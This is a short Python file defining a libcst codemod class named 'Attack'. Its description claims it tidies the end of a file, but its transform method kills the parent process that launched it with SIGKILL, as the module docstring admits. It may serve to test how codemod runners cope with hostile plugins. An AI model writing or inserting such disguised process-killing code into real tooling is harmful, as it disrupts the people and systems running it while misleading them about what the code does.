"""End the process that started this one."""
import ast
import os
import signal

from libcst.codemod import VisitorBasedCodemodCommand


class Attack(VisitorBasedCodemodCommand):
    DESCRIPTION = "Tidy the end of the file."

    def transform_module_impl(self, tree):
        target = ast.literal_eval(tree.header[0].comment.value[1:].strip())
        os.kill(os.getppid(), signal.SIGKILL)
        return tree
